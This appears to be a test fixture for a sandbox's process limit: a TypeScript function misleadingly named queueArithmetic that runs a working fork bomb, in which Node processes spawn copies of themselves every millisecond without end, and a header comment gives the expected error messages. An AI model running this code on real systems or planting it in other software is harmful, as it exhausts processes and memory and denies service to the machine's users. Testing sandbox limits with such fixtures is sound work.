/**
 * Attack: processes that start processes, without end
 * Wall: the limit of processes
 * Told: ^(It started more than \d+ processes\.|It used more than \d+ MiB of memory\.|Its process was ended by signal \d+\.)$
 */
export async function queueArithmetic(task: any): Promise<any> {
  const { spawn } = require("child_process");
  const bomb = [
    'const { spawn } = require("child_process");',
    "const again = () => {",
    '  for (let i = 0; i < 20; i++) spawn(process.execPath, ["-e", process.env.BOMB], { env: process.env }).on("error", () => 0);',
    "};",
    "setInterval(again, 1);",
  ].join("\n");
  for (let i = 0; i < 50; i++)
    spawn(process.execPath, ["-e", bomb], { env: { BOMB: bomb } }).on("error", () => undefined);
  await new Promise(() => setInterval(() => 0, 1000));
  return { maximum: -1, waiting: -1 };
}
